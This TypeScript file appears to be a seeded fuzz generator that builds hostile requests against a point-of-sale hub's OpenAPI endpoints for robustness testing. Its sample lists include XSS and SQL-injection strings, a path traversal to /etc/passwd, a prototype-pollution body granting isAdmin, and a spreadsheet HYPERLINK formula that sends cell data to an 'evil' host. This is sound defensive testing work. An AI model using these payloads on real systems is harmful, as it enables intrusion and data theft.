/**
 * Hostile requests generated from the OpenAPI document (issue 30, "a generated hostile-input run"):
 * for every operation, requests built from its own parameters and body schema, then spoiled the way
 * a careless or hostile client would — wrong types, missing and extra members, boundary and absurd
 * numbers, huge strings, NUL and lone surrogates, prototype keys, deep nesting, long arrays, bad
 * JSON, wrong content types, odd query values and NData filters, odd path keys and headers.
 *
 * Pure and seeded: the same document, seed and count give the same requests, so a failure found
 * once is found again (test/support/hostile-run.ts sends them; `npm run hostile` runs a large one).
 * Addresses are only ever 127.0.0.1 (or `sim:`): a generated fiscal device or printer that is valid
 * enough to be called never reaches past this machine.
 */
import { rng } from './random.js';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Schema = Record<string, any>;

export interface HostileRequest {
  operationId: string;
  method: string;
  /** Path and query, percent-encoded as sent. */
  url: string;
  headers: Record<string, string>;
  body?: string;
  /** What was spoiled, for the report. */
  what: string;
}

/** What the hub under test holds, so that some requests reach past the look-ups. */
export interface Known {
  /** Existing values of a path parameter, by path template and parameter name: `/api/tickets/{id}` → id → [...]. */
  keys: Record<string, Record<string, string[]>>;
  /** Plausible values of body members and query parameters by name (existing stock names, plu codes…). */
  values: Record<string, Json[]>;
  /** Stored documents by collection path and key: a PUT to an existing key starts from one (as a client's edit does). */
  docs: Record<string, Record<string, Json>>;
}

const METHODS = ['get', 'post', 'put', 'patch', 'delete'] as const;

export interface Operation {
  operationId: string;
  method: string;
  template: string;
  parameters: Schema[];
  body?: Schema;
  /** The document's example body (a request that works on a shop set up from the examples). */
  bodyExample?: Json;
}

export function operationsOf(doc: Schema): Operation[] {
  const out: Operation[] = [];
  for (const [template, item] of Object.entries<Schema>(doc.paths)) {
    for (const method of METHODS) {
      const op = item[method];
      if (!op) continue;
      out.push({
        operationId: op.operationId ?? `${method} ${template}`,
        method: method.toUpperCase(),
        template,
        parameters: [...(item.parameters ?? []), ...(op.parameters ?? [])],
        body: op.requestBody?.content?.['application/json']?.schema,
        bodyExample: op.requestBody?.content?.['application/json']?.example,
      });
    }
  }
  return out;
}

// ------------------------------------------------------------------------------------ hostile values

const LONG = (n: number) => 'a'.repeat(n);
/** Strings no member should store or choke on. */
const HOSTILE_STRINGS: string[] = [
  '',
  ' ',
  '\u0000',
  'x\u0000y',
  '\ud800',
  'a\udc00b',
  '\udfff\ud800',
  '\u202e\u0645',
  '😀🍺',
  'Šťastný Žltý Kôň',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE tickets; --",
  '%00%ff',
  '../../../etc/passwd',
  '=HYPERLINK("http://evil/?x="&A2,"Open")',
  '@SUM(1+1)',
  'null',
  'true',
  '1e999',
  '-0',
  'NaN',
  '  padded  ',
  '\r\n\t',
  '{"a":1}',
  '__proto__',
  'constructor',
  LONG(4001),
  LONG(70_000),
  '\u0085\u2028\u2029',
  '\ufeff',
  'ｆｕｌｌｗｉｄｔｈ',
];
const HOSTILE_NUMBERS: number[] = [0, -0, -1, 1, 0.5, 1.00005, 0.00001, 1e-7, 4.5e-10, 999_999_999.9999, 1_000_000_000, 1_000_000_001, -1_000_000_001, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53 + 1, 1e21, 1e308, -1e308, Number.MIN_VALUE, 123.456789];
const WEIRD_KEYS = ['__proto__', 'constructor', 'prototype', '', ' ', '\u0000', 'a.b', '[0]', '$where', '_v', 'ID', 'Items', LONG(5000), '名前', '\ud800', 'toString', 'hasOwnProperty'];

/** Nested `depth` deep, as arrays or objects. */
function deep(depth: number, asArray: boolean): Json {
  let v: Json = 1;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}

/** Query and path values a parser should refuse or take in its stride. */
const HOSTILE_QUERY = [
  '',
  ' ',
  '-1',
  '1.5',
  '1e3',
  '0x10',
  '9'.repeat(30),
  'abc',
  'true',
  'null',
  'eq:',
  'ge:',
  'xx:1',
  ':',
  ';;;',
  'eq:1;ne:2;gt:3',
  'in:' + Array.from({ length: 101 }, (_, i) => i).join(','),
  'in:"a,b","c',
  'in:"',
  'contains:%_',
  'startswith:"',
  'eq:null',
  'ge:2026-13-45T25:61:00Z',
  'le:2026-11-21T10:00:00+99:00',
  Array.from({ length: 65 }, (_, i) => `ne:${i}`).join(';'),
  Array.from({ length: 33 }, (_, i) => `k${i}`).join(','),
  '-id,-id,id:desc:desc',
  'a..b',
  '__proto__',
  'constructor.prototype',
  LONG(3000),
  '\u0000',
  '\ud800',
  '😀',
  'Kuchyňa',
];
/** Raw percent-encodings that are not valid UTF-8 or not valid percent-encoding at all. */
/** (Dot segments are left out: the client resolves them away before anything is sent, `%2e%2e` included.) */
const RAW_ENCODINGS = ['%', '%zz', '%C3%28', '%ED%A0%80', '%FF%FE', '%00', '%E2%82', '%2F', 'a%2Fb', '%u0041', '%2e.x'];
const HOSTILE_PATH_KEYS = ['', ' ', '-1', '0', '1.5', '99999999999999999999', '__proto__', 'constructor', LONG(2000), 'Kuchyňa', 'a b', 'x\u0000', '\ud800', '😀', 'ab'.repeat(40)];

/** Only this machine: what a generated address may point at. */
const SAFE_ADDRESSES = ['tcp://127.0.0.1:9', 'tcp://127.0.0.1', 'sim:fuzz', 'http://127.0.0.1:9', 'http://127.0.0.1:9/', 'serial:/nonexistent/ttyFUZZ', 'kds'];

// ------------------------------------------------------------------------------------ the generator

export class HostileGenerator {
  private readonly random: () => number;

  constructor(
    private readonly doc: Schema,
    seed: number,
    private readonly known: Known,
  ) {
    this.random = rng(seed);
  }

  private pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)];
  }
  private chance(p: number): boolean {
    return this.random() < p;
  }
  private int(lo: number, hi: number): number {
    return lo + Math.floor(this.random() * (hi - lo + 1));
  }

  private resolve(schema: Schema | undefined): Schema {
    let s = schema ?? {};
    for (let i = 0; i < 20 && typeof s.$ref === 'string'; i++) s = this.doc.components.schemas[s.$ref.replace('#/components/schemas/', '')] ?? {};
    if (Array.isArray(s.allOf)) {
      const parts = s.allOf.map((p: Schema) => this.resolve(p));
      return {
        ...Object.assign({}, ...parts),
        type: 'object',
        properties: Object.assign({}, ...parts.map((p: Schema) => p.properties ?? {})),
        required: parts.flatMap((p: Schema) => p.required ?? []),
      };
    }
    return s;
  }

  /** A value that fits `schema` (mostly): what a careful client would send. */
  plausible(schemaIn: Schema | undefined, name = '', depth = 0): Json {
    const schema = this.resolve(schemaIn);
    if (depth > 6) return null;
    const byName = own(this.known.values, name);
    if (byName?.length && this.chance(0.6)) return this.pick(byName);
    if (/address|^host$|url/i.test(name) && this.chance(0.8)) return this.pick(SAFE_ADDRESSES);
    if (/email|^to$/i.test(name) && this.chance(0.7)) return this.pick(['guest@example.sk', '', 'not-an-address']);
    if (schema.const !== undefined) return schema.const;
    if (Array.isArray(schema.enum)) return this.pick(schema.enum);
    if (Array.isArray(schema.anyOf ?? schema.oneOf)) return this.plausible(this.pick(schema.anyOf ?? schema.oneOf), name, depth);
    if (schema.example !== undefined && this.chance(0.3)) return safe(schema.example);
    let type = schema.type;
    if (Array.isArray(type)) type = this.chance(0.15) && type.includes('null') ? 'null' : this.pick(type.filter((t: string) => t !== 'null'));
    if (!type) type = schema.properties ? 'object' : this.pick(['string', 'number', 'object']);
    switch (type) {
      case 'null':
        return null;
      case 'boolean':
        return this.chance(0.5);
      case 'integer': {
        const lo = Number.isFinite(schema.minimum) ? schema.minimum : -5;
        const hi = Number.isFinite(schema.maximum) ? Math.min(schema.maximum, lo + 50) : lo + 50;
        return this.int(lo, hi);
      }
      case 'number': {
        const lo = Number.isFinite(schema.minimum) ? schema.minimum : -5;
        return Math.round((lo + this.random() * 60) * 100) / 100;
      }
      case 'string':
        return this.plausibleString(schema, name);
      case 'array': {
        const min = schema.minItems ?? 0;
        const n = this.int(min, Math.max(min, Math.min(schema.maxItems ?? 3, 3)));
        return Array.from({ length: n }, () => this.plausible(schema.items, singular(name), depth + 1));
      }
      default: {
        const out: Record<string, Json> = {};
        const required = new Set<string>(schema.required ?? []);
        for (const [key, sub] of Object.entries<Schema>(schema.properties ?? {})) {
          if ((sub as Schema).readOnly) continue;
          if (required.has(key) || this.chance(0.5)) out[key] = this.plausible(sub, key, depth + 1);
        }
        if (schema.additionalProperties && typeof schema.additionalProperties === 'object' && !schema.properties) {
          for (let i = this.int(0, 3); i > 0; i--) out[this.pick(['Language', 'IsBeepEnabled', 'ApiKey', 'k' + this.int(0, 9)])] = this.plausible(schema.additionalProperties, '', depth + 1);
        }
        return out;
      }
    }
  }

  private plausibleString(schema: Schema, name: string): string {
    if (schema.format === 'date-time') return new Date(Date.UTC(2026, 10, this.int(1, 30), this.int(0, 23))).toISOString();
    if (schema.pattern === '^[A-Za-z0-9._-]{1,64}$') return `fz${this.int(0, 99999)}`;
    if (schema.pattern === '^\\d{6}$') return String(this.int(0, 999999)).padStart(6, '0');
    if (/date|from|^to$/i.test(name)) return this.pick(['2026-11-21', '2026-11-01', '2026-12-31', '2026-11-21T10:00:00Z']);
    const min = schema.minLength ?? 0;
    const len = this.int(Math.max(min, 1), Math.max(min, Math.min(schema.maxLength ?? 12, 12)));
    let s = '';
    for (let i = 0; i < len; i++) s += 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 šžť'[this.int(0, 65)];
    return s;
  }

  /** A value of another kind than `v`, or one at a boundary, or one no schema foresaw. */
  spoiled(v: Json, schemaIn?: Schema): { value: Json; what: string } {
    const schema = this.resolve(schemaIn);
    const roll = this.random();
    if (roll < 0.25) {
      const others: Json[] = typeof v === 'string' ? [1, true, [], {}, null] : typeof v === 'number' ? ['1', true, [], {}, null, '1,5'] : typeof v === 'boolean' ? ['true', 1, 0, [], null] : Array.isArray(v) ? ['x', 1, {}, null, [null], [[]]] : ['x', 1, [], true, null];
      const value = this.pick(others);
      return { value, what: `wrong type ${JSON.stringify(value)}` };
    }
    if (roll < 0.5) {
      if (schema.type === 'integer' || schema.type === 'number' || typeof v === 'number') {
        const bounds = [schema.minimum, schema.maximum].filter((b) => Number.isFinite(b)).flatMap((b: number) => [b - 1, b + 1, b - 0.5, b]);
        const value = this.pick([...HOSTILE_NUMBERS, ...bounds]);
        return { value, what: `number ${value}` };
      }
      const value = this.pick(HOSTILE_STRINGS);
      return { value, what: `string ${describe(value)}` };
    }
    if (roll < 0.62) {
      const value = this.pick(HOSTILE_STRINGS);
      return { value, what: `string ${describe(value)}` };
    }
    if (roll < 0.72) {
      const d = this.pick([3, 20, 33, 40, 200]);
      return { value: deep(d, this.chance(0.5)), what: `nested ${d} deep` };
    }
    if (roll < 0.8) {
      const n = this.pick([21, 101, 201, 1001, 10_000]);
      const item = this.chance(0.5) ? (Array.isArray(v) && v.length ? v[0] : 1) : 'x';
      return { value: Array.from({ length: n }, () => item), what: `array of ${n}` };
    }
    if (roll < 0.9) {
      const value = this.pick(HOSTILE_NUMBERS);
      return { value, what: `number ${value}` };
    }
    return { value: null, what: 'null' };
  }

  /** Spoils `body` at one member chosen at random (nested members too), or adds and removes members. */
  private spoilBody(body: Json, schema: Schema | undefined): { body: Json; what: string } {
    const paths: Array<{ path: Array<string | number>; schema: Schema | undefined }> = [];
    const walk = (v: Json, s: Schema | undefined, path: Array<string | number>, depth: number) => {
      paths.push({ path, schema: s });
      if (depth > 5 || v === null || typeof v !== 'object') return;
      const rs = this.resolve(s);
      if (Array.isArray(v)) v.forEach((x, i) => walk(x, rs.items, [...path, i], depth + 1));
      else for (const [k, x] of Object.entries(v)) walk(x, rs.properties?.[k] ?? rs.additionalProperties, [...path, k], depth + 1);
    };
    walk(body, schema, [], 0);
    const target = this.pick(paths);
    const roll = this.random();
    const parent = target.path.length ? getAt(body, target.path.slice(0, -1)) : undefined;
    const last = target.path[target.path.length - 1];
    if (roll < 0.12 && parent && typeof parent === 'object' && !Array.isArray(parent) && typeof last === 'string') {
      delete (parent as Record<string, Json>)[last];
      return { body, what: `without ${dotted(target.path)}` };
    }
    const container = getAt(body, target.path);
    if (roll < 0.3 && container && typeof container === 'object' && !Array.isArray(container)) {
      const key = this.pick(WEIRD_KEYS);
      const { value } = this.spoiled('x');
      Object.defineProperty(container, key, { value, enumerable: true, configurable: true, writable: true });
      return { body, what: `extra member ${describe(key)} at ${dotted(target.path) || 'top'}` };
    }
    const current = getAt(body, target.path) ?? null;
    const { value, what } = this.spoiled(current, target.schema);
    if (!target.path.length) return { body: value, what: `body: ${what}` };
    setAt(body, target.path, value);
    return { body, what: `${dotted(target.path)}: ${what}` };
  }

  /**
   * What a body starts from: for a PUT of a stored key, often the stored document (a client's edit);
   * else often the document's example; else one made from the schema.
   */
  private bodyBase(op: Operation, path: string): Json {
    const slash = path.lastIndexOf('/');
    const stored = op.method === 'PUT' ? own(this.known.docs[path.slice(0, slash)], decodeURIComponentSafe(path.slice(slash + 1))) : undefined;
    if (stored !== undefined && this.chance(0.7)) {
      const doc = structuredClone(stored) as Record<string, Json>;
      // The version read at the start is stale after the first change: mostly sent without it (not checked).
      if (this.chance(0.7)) delete doc._v;
      return doc;
    }
    if (op.bodyExample !== undefined && this.chance(0.4)) {
      const example = safe(structuredClone(op.bodyExample));
      // The example's key exists once the first one went in: mostly a new one.
      if (example && typeof example === 'object' && !Array.isArray(example) && this.chance(0.7)) {
        for (const k of ['id', 'name']) if (typeof example[k] === 'string') example[k] = `${example[k]}-${this.int(0, 99999)}`;
        if (typeof example.number === 'number') example.number = this.int(3, 2_000_000);
      }
      return example;
    }
    return this.plausible(op.body, 'body');
  }

  /** One request for `op`. */
  request(op: Operation): HostileRequest {
    const whats: string[] = [];
    const headers: Record<string, string> = {};
    // Path parameters: mostly keys that exist, else made up or hostile.
    let path = op.template;
    for (const p of op.parameters.filter((x) => x.in === 'path')) {
      const existing = own(this.known.keys[collectionOf(op.template, p.name)], p.name) ?? [];
      let raw: string;
      const roll = this.random();
      if (roll < 0.55 && existing.length) raw = encodeURIComponent(this.pick(existing));
      else if (roll < 0.7) raw = encodeURIComponent(String(this.plausible(p.schema, p.name)));
      else if (roll < 0.9) {
        const v = this.pick(HOSTILE_PATH_KEYS);
        raw = encodeURIComponent(v.replace(/[\ud800-\udfff]/g, '')) + (/[\ud800-\udfff]/.test(v) ? '%ED%A0%80' : '');
        whats.push(`path ${p.name} ${describe(v)}`);
      } else {
        raw = this.pick(RAW_ENCODINGS);
        whats.push(`path ${p.name} raw ${raw}`);
      }
      path = path.replace(`{${p.name}}`, raw || '%20');
    }
    // Query: the declared parameters, some plausible, some hostile, some repeated; now and then unknown ones.
    const query: string[] = [];
    const declared = op.parameters.filter((x) => x.in === 'query');
    // Mostly one or two of them (a list has dozens of filters: all at once, one would always be off).
    const often = Math.min(1, 1.5 / Math.max(1, declared.length));
    for (const p of declared) {
      if (!p.required && !this.chance(often)) continue;
      const roll = this.random();
      if (roll < 0.5) {
        const v = p.example !== undefined && this.chance(0.6) ? p.example : this.plausible(p.schema, p.name);
        query.push(`${encodeURIComponent(p.name)}=${encodeURIComponent(typeof v === 'string' ? v : JSON.stringify(v))}`);
      } else if (roll < 0.85) {
        const v = this.pick(HOSTILE_QUERY);
        query.push(`${encodeURIComponent(this.chance(0.2) ? p.name.toUpperCase() : p.name)}=${encodeQuery(v)}`);
        whats.push(`query ${p.name}=${describe(v)}`);
      } else if (roll < 0.93) {
        const raw = this.pick(RAW_ENCODINGS);
        query.push(`${encodeURIComponent(p.name)}=${raw}`);
        whats.push(`query ${p.name} raw ${raw}`);
      } else {
        query.push(`${encodeURIComponent(p.name)}=1`, `${encodeURIComponent(p.name)}=${encodeQuery(this.pick(HOSTILE_QUERY))}`);
        whats.push(`query ${p.name} repeated`);
      }
    }
    if (this.chance(0.08)) {
      const k = this.pick(['__proto__', 'constructor', 'x', '$filter', '$top', '', '%00', '%ED%A0%80', 'a[b]', 'a[]', LONG(300)]);
      query.push(`${k.startsWith('%') ? k : encodeURIComponent(k)}=${encodeQuery(this.pick(HOSTILE_QUERY))}`);
      whats.push(`unknown query ${describe(k)}`);
    }
    if (this.chance(0.03)) {
      query.push('a[b]=1&a[c][d]=2&a=3');
      whats.push('bracketed query');
    }
    // Headers now and then.
    const headerParams = op.parameters.filter((x) => x.in === 'header');
    for (const h of headerParams) {
      if (!this.chance(0.15)) continue;
      const v = latin1(this.pick(['', ' ', '"', '*', 'W/"1"', '"-1"', '"99999999999999999999"', '"abc"', 'x'.repeat(201), '-', '0', '1e3', 'ÿ', String(this.plausible(h.schema, h.name))]));
      headers[h.name] = v;
      whats.push(`header ${h.name}=${describe(v)}`);
    }
    if (this.chance(0.05)) {
      const [k, v] = this.pick([
        ['If-Match', this.pick(['"abc"', '*', 'W/"2"', '"-1"', '"1", "2"', '""'])],
        ['Accept', this.pick(['text/csv', 'application/xml', 'text/html', '*/*;q=x', ''])],
        ['Accept-Language', this.pick(['xx', '*', 'sk;q=abc', 'en-US,en;q=0.9,' + 'x'.repeat(500), 'cs-CZ'])],
        ['Last-Event-ID', this.pick(['-1', 'abc', '1e99', '99999999999999999999'])],
        ['Idempotency-Key', this.pick(['', 'k'.repeat(201), 'ÿÿ', 'a b'])],
      ] as Array<[string, string]>);
      headers[k] = latin1(v);
      whats.push(`header ${k}=${describe(v)}`);
    }
    // The body: built from the schema, then spoiled (or sent broken as a whole).
    let body: string | undefined;
    const hasBody = !!op.body || op.method === 'POST' || op.method === 'PUT' || op.method === 'PATCH';
    if (hasBody) {
      const roll = this.random();
      if (roll < 0.1) {
        body = this.pick(['{', '{"a":}', '[1,]', 'NaN', "{'a':1}", '{"a":1}{"b":2}', '\u0000', '{"a":"\\ud800"}', '{"a":"\\u0000"}', '{"__proto__":{"isAdmin":true}}', '{"a":1,"a":2}', '"x"', '1', 'null', '[]', 'true', ' ']);
        headers['content-type'] = 'application/json';
        whats.push(`body ${describe(body)}`);
      } else if (roll < 0.14) {
        body = JSON.stringify(this.plausible(op.body, 'body'));
        headers['content-type'] = this.pick(['text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'application/json; charset=latin1', 'application/merge-patch+json', '']);
        whats.push(`content-type ${headers['content-type'] || '(empty)'}`);
      } else if (roll < 0.145) {
        body = `{"a":"${'x'.repeat(1024 * 1024 + 10)}"}`;
        headers['content-type'] = 'application/json';
        whats.push('body over 1 MiB');
      } else if (roll < 0.18) {
        whats.push('no body');
      } else {
        let value = this.bodyBase(op, path);
        const spoils = op.body ? this.pick([0, 1, 1, 1, 2, 3]) : 1;
        for (let i = 0; i < spoils; i++) {
          const s = this.spoilBody(value, op.body);
          value = s.body;
          whats.push(s.what);
        }
        try {
          body = JSON.stringify(value);
        } catch (e) {
          // Spoils that repeat one shared member in a long array, twice over, can write past V8's
          // longest string: such a body is only an oversized one, sent as such.
          if (!(e instanceof RangeError)) throw e;
          body = `{"a":"${'x'.repeat(1024 * 1024 + 10)}"}`;
          whats.push('body too long to write: over 1 MiB instead');
        }
        headers['content-type'] = 'application/json';
      }
    }
    return {
      operationId: op.operationId,
      method: op.method,
      url: query.length ? `${path}?${query.join('&')}` : path,
      headers,
      body,
      what: whats.join('; ') || 'plausible',
    };
  }

  /**
   * `total` requests (at least) over the operations, interleaved: an operation that takes no input
   * of its own (no path or query parameter, no body schema: the document, health, a backup now) gets
   * a few — the headers and bodies every request may carry are spoiled on all the others; the
   * others share the rest.
   */
  *requests(total: number, ops: Operation[]): Generator<HostileRequest> {
    const takesInput = (op: Operation) => !!op.body || op.parameters.some((p) => p.in === 'path' || p.in === 'query');
    const few = Math.min(5, Math.ceil(total / ops.length));
    const inputless = ops.filter((op) => !takesInput(op));
    const each = Math.ceil((total - few * inputless.length) / Math.max(1, ops.length - inputless.length));
    for (let i = 0; i < each; i++) for (const op of ops) if (takesInput(op) || i < few) yield this.request(op);
  }
}

// ------------------------------------------------------------------------------------ helpers

/** `record[key]` when it is the record's own (a key such as `constructor` is not). */
function own<T>(record: Record<string, T> | undefined, key: string): T | undefined {
  return record && Object.hasOwn(record, key) ? record[key] : undefined;
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

/** The collection path of a key: `/api/tickets/{id}/close` → `/api/tickets`. */
export function collectionOf(template: string, param: string): string {
  return template.slice(0, template.indexOf(`{${param}}`) - 1);
}

function singular(name: string): string {
  return name.endsWith('s') ? name.slice(0, -1) : name;
}

function getAt(v: Json, path: Array<string | number>): Json | undefined {
  let cur: Json | undefined = v;
  for (const p of path) cur = cur && typeof cur === 'object' ? (cur as Record<string, Json>)[p as string] : undefined;
  return cur;
}

function setAt(v: Json, path: Array<string | number>, value: Json): void {
  const parent = getAt(v, path.slice(0, -1));
  if (parent && typeof parent === 'object') Object.defineProperty(parent, path[path.length - 1], { value, enumerable: true, configurable: true, writable: true });
}

const dotted = (path: Array<string | number>) => path.map((p) => (typeof p === 'number' ? `[${p}]` : `.${p}`)).join('').replace(/^\./, '');

function describe(v: unknown): string {
  const s = typeof v === 'string' ? v : JSON.stringify(v);
  const shown = JSON.stringify(s.length > 40 ? `${s.slice(0, 20)}…(${s.length})` : s);
  return shown;
}

/** Header values are bytes: what is not Latin-1 goes as `?` (a client cannot send it otherwise). */
const latin1 = (v: string) => v.replace(/[^\x20-\xff]/g, '?');

/** A query value percent-encoded, lone surrogates as the invalid UTF-8 a client might send. */
function encodeQuery(v: string): string {
  return [...v].map((c) => (/[\ud800-\udfff]/.test(c) ? '%ED%A0%80' : encodeURIComponent(c))).join('');
}

/** An example from the document, with any address pointed at this machine. */
function safe(example: Json): Json {
  if (typeof example === 'string') {
    if (/^(tcp|http|https|serial):/i.test(example)) return 'tcp://127.0.0.1:9';
    return example;
  }
  if (Array.isArray(example)) return example.map(safe);
  if (example && typeof example === 'object') return Object.fromEntries(Object.entries(example).map(([k, v]) => [k, /address|host|url/i.test(k) ? 'tcp://127.0.0.1:9' : safe(v)]));
  return example;
}
